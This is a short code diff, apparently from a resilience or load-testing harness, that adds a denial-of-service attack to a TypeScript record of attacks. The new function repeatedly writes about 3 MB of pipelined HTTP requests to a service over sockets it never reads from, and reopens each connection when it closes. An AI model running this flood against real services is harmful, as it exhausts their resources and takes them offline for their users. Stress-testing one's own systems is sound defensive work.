@@ -56,6 +56,7 @@ const counted = (target: AttackTarget) => ({ ...target, onBytes: (bytes: number)
 
 const FLOOD_CONNECTIONS = 64;
 const PIPELINED = 8;
+const UNREAD_REQUESTS = 60_000;
 const STREAMS = 20;
 const LINKS = 24;
 const HOUR_MP3_BYTES = 86_000_000;
@@ -81,6 +82,20 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
       });
     };
     for (let connection = 0; connection < FLOOD_CONNECTIONS; connection += 1) open();
+  },
+
+  /** 3 MB of requests on each connection, of which no answer is read; a closed connection is opened again. */
+  async 'requests whose answers are not read'({ service, from, count }) {
+    const [host, port] = service.split(':');
+    const requests = `GET /api/App HTTP/1.1\r\nhost: ${service}\r\n\r\n`.repeat(UNREAD_REQUESTS);
+    const open = () => {
+      count('connections');
+      const socket = connect({ host, port: Number(port), localAddress: from });
+      socket.write(requests);
+      socket.once('error', () => undefined);
+      socket.once('close', open);
+    };
+    open();
   },
 
   async 'conversions to MP3'(target) {
